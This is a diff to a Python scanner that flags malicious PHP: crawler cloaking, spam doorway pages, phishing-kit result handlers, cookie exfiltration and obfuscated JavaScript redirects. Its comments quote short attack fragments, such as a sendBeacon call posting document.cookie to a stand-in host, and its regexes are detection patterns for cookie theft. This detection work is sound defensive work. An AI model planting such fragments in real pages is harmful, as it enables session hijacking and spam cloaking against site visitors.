@@ -141,12 +141,14 @@ _SERVE = re.compile(rb"\b(?:echo|print|die|exit|eval|include|require)\b")
 
 @feature("crawler_remote")
 def _crawler_remote(ctx: Ctx, rule: Rule) -> Hit | None:
-    """A test of the user agent for search-engine crawlers, followed (in the next ~1,000
-    bytes of code) by content fetched from a literal http(s) address and output: crawlers
-    are served pages from the operator's host (a doorway, SEO spam cloaking)."""
-    code = ctx.code
+    """A test of the user agent (or of the visitor's reverse-DNS name, ``gethostbyaddr()``:
+    ``googlebot.com``) for search-engine crawlers, followed (in the next ~1,000 bytes of
+    code) by content fetched from a literal http(s) address and output: crawlers are served
+    pages from the operator's host (a doorway, SEO spam cloaking)."""
     text = string_text(ctx)
-    if text.find(b"user_agent") < 0 or text.find(b"http") < 0:
+    if text.find(b"http") < 0 or (
+        text.find(b"user_agent") < 0 and not has_word(ctx, b"gethostbyaddr")
+    ):
         return None
     value = ctx.lx.value
     for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
@@ -156,21 +158,50 @@ def _crawler_remote(ctx: Ctx, rule: Rule) -> Hit | None:
         )
         if not crawler:
             continue
-        window = code[start : start + 1000]
-        fetches = list(itertools.islice(REMOTE_FETCH.finditer(window), 20))
-        own = _fetch_functions(ctx)
-        if own:  # the file's own download function given a literal address
-            fetches += [
-                c for c in itertools.islice(_LITERAL_CALL.finditer(window), 40)
-                if c.group(2) in own
-            ]
-        for f in fetches:
-            url = value(int(f.group(1))).lower().lstrip()
-            if _visitors_url(ctx, window, f.end()) and _NUMERIC_HOST.match(url) is None:
-                continue  # a prerendering service given the page asked for
-            if url.startswith(WEB_SCHEMES[:2]) and _SERVE.search(window):
-                at = start + f.start()
-                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
+        for at in [start, *_predicate_calls(ctx, start)]:
+            hit = _crawler_fetch_served(ctx, at)
+            if hit is not None:
+                return hit
+    return None
+
+
+def _predicate_calls(ctx: Ctx, start: int) -> list[int]:
+    """Where the file calls the function of its own whose body holds ``start`` (a test such
+    as ``function is_bot() { foreach ($bots as $b) if (stripos($ua, $b) ...) return true;
+    }``): the test's answer is used at those calls."""
+    code = ctx.code
+    for name, body in function_bodies(ctx).items():
+        at = code.find(body)
+        if not 0 <= at <= start < at + len(body):
+            continue
+        call = re.compile(rb"(?<![\w$>:])" + re.escape(name) + rb"\s*\(")
+        return [
+            m.start() for m in itertools.islice(call.finditer(code), 10)
+            if not at - 200 <= m.start() < at + len(body)
+        ]
+    return []
+
+
+def _crawler_fetch_served(ctx: Ctx, start: int) -> Hit | None:
+    """A fetch of a literal http(s) address in the ~1,000 bytes of code after ``start``,
+    whose content is output."""
+    code = ctx.code
+    value = ctx.lx.value
+    window = code[start : start + 1000]
+    fetches = list(itertools.islice(REMOTE_FETCH.finditer(window), 20))
+    own = _fetch_functions(ctx)
+    if own:  # the file's own download function given a literal address
+        fetches += [
+            c for c in itertools.islice(_LITERAL_CALL.finditer(window), 40)
+            if c.group(2) in own
+        ]
+    for f in fetches:
+        url = value(int(f.group(1))).lower().lstrip()
+        if _visitors_url(ctx, window, f.end()) and _NUMERIC_HOST.match(url) is None:
+            continue  # a prerendering service given the page asked for
+        if url.startswith(WEB_SCHEMES[:2]) and _served(window, f.start()):
+            at = start + f.start()
+            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
     return None
 
 
@@ -192,6 +223,67 @@ def _visitors_url(ctx: Ctx, text: bytes, at: int) -> bool:
     # . $_SERVER['REQUEST_URI']): a host and a path sent apart (door.php?host=..&uri=..) are
     # what a doorway's server builds its page for
     return any(x in _OWN_URL_KEYS for x in lits) and any(x.endswith(b"://") for x in lits)
+
+
+@feature("spam_keyword_remote_page")
+def _spam_keyword_remote_page(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A page fetched from a literal http(s) address for a keyword, and output whole,
+    where the keyword is a spam word (pharma, casino, payday...) written in the fetch's
+    address or in the value its variable starts from (``$k = $_GET['p'] ?? 'cheap-viagra';
+    echo file_get_contents('http://spin.host/api/' . $k)``): a doorway page that serves
+    spun spam text for whatever keyword the link names. A site's own headless CMS fetched
+    for a page's slug names no spam word."""
+    text = string_text(ctx)
+    if _PHARMA.search(text) is None:
+        return None
+    code = ctx.code
+    value = ctx.lx.value
+    for m in itertools.islice(REMOTE_FETCH.finditer(code), 20):
+        if not value(int(m.group(1))).lower().lstrip().startswith(WEB_SCHEMES[:2]):
+            continue
+        args = code[m.end() : m.end() + close_paren(code[m.end() : m.end() + 600])]
+        texts = [args]
+        for v in itertools.islice(VAR.finditer(args), 4):
+            sets = var_assigns(code[: m.start()], v.group(1), TAIL_RHS, 3)
+            texts += [a.group(1) for _, a in sets]
+        spam = any(
+            _PHARMA.search(value(int(q.group(1))).lower()) is not None
+            for t in texts
+            for q in itertools.islice(PLACEHOLDER.finditer(t), 10)
+        )
+        if not spam or (VAR.search(args) is None and args.find(b"$_") < 0):
+            continue
+        lo = max(0, m.start() - 300)
+        if _served(code[lo : m.start() + 1000], m.start() - lo):
+            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
+    return None
+
+
+# a statement that outputs what it computes (or runs it)
+_OUTPUT_STMT = re.compile(rb"@?\s*(?:echo|print|die|exit|eval|include|require)\b")
+_ASSIGNED = re.compile(rb"\$(\w+)\s*=(?![=>])")
+
+
+def _served(window: bytes, at: int) -> bool:
+    """Whether what the fetch at ``at`` of ``window`` returns is output: the fetch is in an
+    echo/print/die/exit (or eval/include) statement, or is readfile() or curl (which prints
+    what it gets unless told otherwise, and whose result is printed later), or a variable
+    given it is output further on (``$page = file_get_contents(...); echo $page;``). A
+    value fetched for the script's own use (exchange rates decoded with json_decode) is
+    not."""
+    if window.startswith((b"readfile", b"curl_init"), at):
+        return _SERVE.search(window) is not None
+    head = max(window.rfind(b";", 0, at), window.rfind(b"{", 0, at), window.rfind(b"}", 0, at))
+    stmt = window[head + 1 : at]
+    if _OUTPUT_STMT.match(stmt.lstrip()) is not None:
+        return True
+    m = _ASSIGNED.match(stmt.lstrip())
+    if m is None or stmt.find(b"(") >= 0:  # json_decode(file_get_contents(...)): used here
+        return False
+    out = re.compile(
+        rb"(?:echo|print|die|exit)\b[^;]{0,200}?\$" + re.escape(m.group(1)) + rb"\b"
+    )
+    return out.search(window, at) is not None
 
 
 _LITERAL_CALL = re.compile(rb"(?<![\w$>:])(?=(?:\w+)\s*\(\s*\x01(\d+)\x01)(\w+)")
@@ -1591,6 +1683,14 @@ def _genuine_site_redirect(
     return -1
 
 
+# a whole form array packed into a text: http_build_query($_POST), json_encode(array_merge(
+# $_REQUEST, [...])), print_r($_POST, true), implode("\n", $_POST)
+_WHOLE_FORM_PACKED = re.compile(
+    rb"(?:http_build_query|json_encode|serialize|print_r|var_export|implode|join)\s*\(\s*"
+    rb"(?:[^;()]{0,40},\s*)?(?:array_merge\s*\(\s*)?\$_(?:post|get|request)\b\s*[,)]"
+)
+
+
 @feature("victim_sent_away")
 def _victim_sent_away(ctx: Ctx, rule: Rule) -> Hit | None:
     """A phishing kit's results handler, whatever its fields are called: form fields sent to
@@ -1607,9 +1707,16 @@ def _victim_sent_away(ctx: Ctx, rule: Rule) -> Hit | None:
         # a file the site keeps is not sending the fields away (a guest book, an order list),
         # unless the visitor is then sent to another site's sign-in page (a kit's results log)
         kept = ctx.code.startswith(_FILE_WRITES, start)
-        if not _request_keys(ctx, _sent_text(ctx, sent, 3)):
+        text = _sent_text(ctx, sent, 3)
+        if _request_keys(ctx, text):
+            at = _genuine_site_redirect(ctx, start, sign_in_only=kept)
+        elif not kept and _WHOLE_FORM_PACKED.search(text) is not None:
+            # every field packed whole (http_build_query($_POST)): a form relaying to a CRM
+            # does that too, so only when the visitor is then sent to a sign-in page or to
+            # the front page of a service phishing pages imitate
+            at = _genuine_site_redirect(ctx, start, brand_front=True)
+        else:
             continue
-        at = _genuine_site_redirect(ctx, start, sign_in_only=kept)
         if at >= 0:
             return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
     return None
@@ -2278,13 +2385,15 @@ _COOKIE_SENT = re.compile(
 )
 
 
-# ... or sent as the body of a beacon or a request to an address written whole or filled in
-# by PHP: navigator.sendBeacon("https://x/b", document.cookie) (a page's own beacon goes to
-# a path of its own site, "/log", and has no use for the cookies its site already gets)
-_COOKIE_BEACON = re.compile(
-    rb"sendbeacon\s*\(\s*['\"]?(?:(?:https?:)?//|\$|<\?)[^;]{0,300}?document\.cookie|"
-    rb"\bopen\s*\(\s*['\"](?:post|get|put)['\"]\s*,\s*['\"]?(?:(?:https?:)?//|\$|<\?)[^;]{0,300};"
-    rb"[^;]{0,200}?\.send\s*\(\s*(?:(?:escape|encodeuricomponent|btoa)\s*\(\s*)?document\.cookie"
+# ... or sent as the body of a request to an address that is not the site's own path (a
+# literal http(s):// or //host, or one PHP fills in): x.open('POST', '<?= $u ?>');
+# x.send(document.cookie), navigator.sendBeacon('https://h/l', document.cookie), fetch(url,
+# {body: document.cookie}), $.post('//h/l', {c: document.cookie})
+_COOKIE_BODY = re.compile(
+    rb"(?:\bopen\s*\(\s*['\"](?:post|get|put)['\"]\s*,\s*|sendbeacon\s*\(\s*|\bfetch\s*\(\s*|"
+    rb"\$\.(?:post|get|ajax)\s*\(\s*(?:\{\s*url\s*:\s*)?)['\"](?:(?:https?:)?//|['\"])[^\x00]{0,300}?"
+    rb"(?:\.send\s*\(|,|\bbody\s*:|\bdata\s*:)\s*(?:\{[^}]{0,80}?:\s*)?"
+    rb"(?:(?:escape|encodeuricomponent|btoa|json\.stringify)\s*\(\s*)?document\.cookie"
 )
 
 
@@ -2293,12 +2402,17 @@ def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
     """JavaScript in the page (a PHP string or the file's HTML) that glues the visitor's
     cookies into a web address, which the browser then loads (a literal address, or the
     address of a redirect, an image or a request whose host PHP fills in): session cookies
-    sent to a third party. (Scripts that read or set their own cookie do not build an
-    address.)"""
+    sent to a third party; or that sends them as a request's body to an address other than
+    the site's own paths (XMLHttpRequest's send(), sendBeacon(), fetch's body, jQuery's
+    post()). (Scripts that read or set their own cookie do not build an address or post
+    it.)"""
     if ctx.data.find(b"document.cookie") < 0:
         return None
-    return (_in_page_text(ctx, _COOKIE_EXFIL) or _in_page_text(ctx, _COOKIE_SENT)
-            or _in_page_text(ctx, _COOKIE_BEACON))
+    return (
+        _in_page_text(ctx, _COOKIE_EXFIL)
+        or _in_page_text(ctx, _COOKIE_SENT)
+        or _in_page_text(ctx, _COOKIE_BODY)
+    )
 
 
 # obfuscated JavaScript run in the page: eval(String.fromCharCode(...)), document.write(
@@ -2306,7 +2420,10 @@ def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
 _JS_OBFUSCATED = re.compile(
     rb"<script[^>]*>[^\x00]{0,400}?(?:eval\s*\(\s*(?:string\.fromcharcode|unescape|atob|"
     rb"decodeuricomponent)\s*\(|document\.write\s*\(\s*(?:unescape|atob|string\.fromcharcode)"
-    rb"\s*\()"
+    rb"\s*\(|"
+    # the browser sent to an address the page decodes: location = atob('aHR0c...')
+    rb"\blocation(?:\.href)?\s*=\s*(?:unescape|atob|string\.fromcharcode)\s*\(|"
+    rb"\blocation\.(?:replace|assign)\s*\(\s*(?:unescape|atob|string\.fromcharcode)\s*\()"
 )
 _JS_WORDS = (b"fromCharCode", b"unescape(", b"atob(", b"decodeURIComponent(")
 
@@ -2314,7 +2431,8 @@ _JS_WORDS = (b"fromCharCode", b"unescape(", b"atob(", b"decodeURIComponent(")
 @feature("js_obfuscated_inject")
 def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
     """A <script> written by PHP (a string or the file's HTML) that decodes and runs hidden
-    JavaScript (eval(String.fromCharCode(...)), document.write(unescape('%3C...'))): the
+    JavaScript (eval(String.fromCharCode(...)), document.write(unescape('%3C...'))), or
+    sends the browser to an address it decodes (``location = atob('aHR0c...')``): the
     injected redirects and skimmers of hacked sites. Libraries ship such code as .js files,
     not inside PHP."""
     data = ctx.data
